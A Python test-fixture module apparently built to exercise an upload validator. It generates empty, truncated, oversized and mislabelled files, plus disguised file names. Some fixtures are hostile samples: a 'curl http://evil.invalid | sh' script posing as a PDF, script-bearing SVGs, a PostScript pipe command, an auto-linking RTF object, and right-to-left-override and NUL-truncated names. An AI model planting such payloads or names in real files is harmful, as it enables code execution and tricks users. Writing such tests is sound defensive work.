"""Files that are empty, cut off, of another kind than asked for, or another kind than their name says; and nasty names."""

from __future__ import annotations

import codecs
import gzip
import lzma
import random
import struct
import tarfile
from io import BytesIO

from tests.data import bad
from tests.data.hostile import base
from tests.data.hostile.base import ELF, EXE, HTML, PHP
from tests.data.hostile.entries import MB, Family

empty = Family("empty")
empty.add("nothing.pdf", "0 bytes", "empty", b"")
empty.add("nothing.jpg", "0 bytes, a photo by name", "empty", b"")
empty.add("one-byte.pdf", "one NUL", "format", b"\0")
empty.add("blanks.docx", "white space only", "format", b" \r\n" * 200)
empty.add("zeros.png", "a file the disk never wrote", "format", b"\0" * 4096)
empty.add("noise.pdf", "random bytes", "format", lambda: random.Random(3).randbytes(5000))
empty.add("text.pdf", "plain text", "format", "这是一份预案。".encode() * 30)
empty.add("header.pdf", "a PDF's first line", "damaged", b"%PDF-1.7\n")
empty.add("header.jpg", "a JPEG's first bytes", "damaged", b"\xff\xd8\xff\xe0")
empty.add("header.png", "a PNG's first bytes", "damaged", b"\x89PNG\r\n\x1a\n")
empty.add("header.docx", "a ZIP's first bytes", "damaged", b"PK\x03\x04")
empty.add("no-entries.docx", "a ZIP of nothing", "format", b"PK\x05\x06" + b"\0" * 18)
empty.add("over.pdf", "one byte over the limit", "too_large", lambda: bad.too_big(20) + b"\n")
empty.add("far-over.pdf", "40 MB", "too_large", lambda: bad.too_big(40))
empty.add("zeros-over.jpg", "21 MB of zeros", "too_large", lambda: b"\0" * (21 * MB))

cut = Family("cut")
_WHOLE = {
    "pdf": lambda: base.pdf(pages=5),
    "jpg": lambda: base.image("JPEG"),
    "png": lambda: base.image("PNG"),
    "heic": lambda: base.image("HEIF"),
    "docx": base.docx,
    "xlsx": base.xlsx,
}


def _cut(kind: str, share: float):
    def make() -> bytes:
        whole = _WHOLE[kind]()
        return whole[: int(len(whole) * share)]

    return make


for _kind in _WHOLE:
    for _share in (0.3, 0.6, 0.97):
        cut.add(f"{int(_share * 100)}.{_kind}", f"the first {_share:.0%} of a good {_kind}", "damaged", _cut(_kind, _share))
cut.add("middle.pdf", "a PDF without its beginning", "format", lambda: base.pdf(pages=5)[200:])
cut.add("middle.jpg", "a JPEG without its beginning", "format", lambda: base.image("JPEG")[100:])
cut.add("hole.docx", "a DOCX with 50 bytes of zeros in it", "damaged", lambda: _hole(base.docx()))
cut.add("hole.xlsx", "an XLSX with 50 bytes of zeros in it", "damaged", lambda: _hole(base.xlsx()))


def _hole(whole: bytes) -> bytes:
    return whole[:60] + b"\0" * 50 + whole[110:]


other = Family("other")
other.add("program.pdf", "a Windows program (PE)", "format", bad.exe_named_pdf)
other.add("program.jpg", "a Linux program (ELF)", "format", ELF)
other.add("program.png", "a Mac program (Mach-O)", "format", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 200)
other.add("script.pdf", "a shell script", "format", b"#!/bin/sh\ncurl http://evil.invalid | sh\n")
other.add("class.docx", "a Java class", "format", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 100)
other.add("wasm.png", "WebAssembly", "format", b"\0asm\x01\0\0\0" + b"\0" * 40)
other.add("shortcut.pdf", "a Windows shortcut", "format", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 200)
other.add("address.pdf", "an Internet shortcut", "format", b"[InternetShortcut]\r\nURL=file://evil.invalid/x\r\n")
other.add("page.jpg", "a page with a script", "format", bad.html_named_jpg)
other.add("page16.pdf", "a page with a script, in UTF-16", "format", codecs.BOM_UTF16_LE + HTML.decode().encode("utf-16-le"))
other.add("comment.pdf", "a page that begins with a comment", "format", b"<!-- x -->" + HTML)
other.add("drawing.png", "an SVG with a script", "format", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
other.add("drawing.svg", "an SVG that loads when it is shown", "format", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
other.add("xml.docx", "Word's XML of 2003, with a macro", "format", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>')
other.add("php.jpg", "a PHP program", "format", PHP)
other.add("mail.docx", "a web archive (MHT), which Word opens", "format", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: application/x-mso\r\n")
other.add("rtf.docx", "RTF, which Word opens", "format", rb"{\rtf1{\object\objautlink\objupdate{\*\objdata 0105}}}")
other.add("postscript.pdf", "PostScript", "format", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n")
other.add("old.docx", "a DOC", "format", lambda: _ole("WordDocument"))
other.add("old.xlsx", "an XLS with macros", "format", lambda: _ole("Workbook", "_VBA_PROJECT"))
other.add("locked.docx", "a DOCX with a password", "encrypted", lambda: _ole("EncryptedPackage"))
other.add("locked.xlsx", "an XLSX with a password", "encrypted", lambda: _ole("EncryptionInfo", "EncryptedPackage"))
other.add("scan.jpg", "a TIFF", "format", lambda: base.image("TIFF"))
other.add("scan-pages.pdf", "a TIFF of several pages", "format", lambda: _frames("TIFF"))
other.add("moving.jpg", "a GIF that moves", "format", lambda: _frames("GIF"))
other.add("bitmap.png", "a BMP", "format", lambda: base.image("BMP"))
other.add("photo.webp", "a WebP", "format", lambda: base.image("WEBP"))
other.add("photo.heic", "an AVIF, HEIC by name", "format", lambda: base.image("AVIF", speed=10))
other.add("film.jpg", "an MP4", "format", b"\0\0\0\x18ftypmp42\0\0\0\0isommp42" + b"\0" * 200)
other.add("icon.png", "an ICO", "format", lambda: base.image("ICO"))
other.add("archive.zip", "a ZIP of documents", "format", lambda: base.zipped({"a.pdf": base.pdf(), "b.docx": base.docx()}))
other.add("archive.docx", "a RAR", "format", b"Rar!\x1a\x07\x01\0" + b"\0" * 60)
other.add("archive.xlsx", "a 7z", "format", b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 60)
other.add("archive.pdf", "gzip of a PDF", "format", lambda: gzip.compress(base.pdf(), mtime=0))
other.add("archive2.pdf", "xz of a PDF", "format", lambda: lzma.compress(base.pdf()))
other.add("tar.pdf", "a tar", "format", lambda: _tar())
other.add("ofd.pdf", "an OFD", "format", lambda: base.zipped({"OFD.xml": b"<ofd/>", "Doc_0/Document.xml": b"<d/>"}))
other.add("slides.docx", "a presentation", "format", lambda: base.zipped(
    {"[Content_Types].xml": b'<?xml version="1.0"?><Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'}))  # fmt: skip
other.add("jar.docx", "a Java archive", "format", lambda: base.zipped({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}))
other.add("odt.docx", "an ODT", "format", lambda: base.zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}))


def _ole(*streams: str) -> bytes:
    """The beginning of a compound file of 1997 and its directory of streams."""
    names = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *streams))
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + struct.pack("<16x2H2H", 0x3E, 3, 0xFFFE, 9) + b"\0" * 480 + names


def _frames(form: str) -> bytes:
    out = BytesIO()
    first, *rest = [base.picture(64, 48).rotate(turn) for turn in (0, 90, 180)]
    first.save(out, form, save_all=True, append_images=rest)
    return out.getvalue()


def _tar() -> bytes:
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        content = base.pdf()
        info = tarfile.TarInfo("plan.pdf")
        info.size = len(content)
        archive.addfile(info, BytesIO(content))
    return out.getvalue()


names = Family("names")
for _number, _name in enumerate(bad.names()):
    names.add(f"{_number}.bin", "a program, its name made to deceive", "format", EXE, name=_name)
names.add("nul.bin", "a program, its name cut at a NUL", "format", ELF, name="营业执照.pdf\0.exe")
names.add("rtl.bin", "a page, its name turned around", "format", HTML, name="营业执照\u202egpj.html")
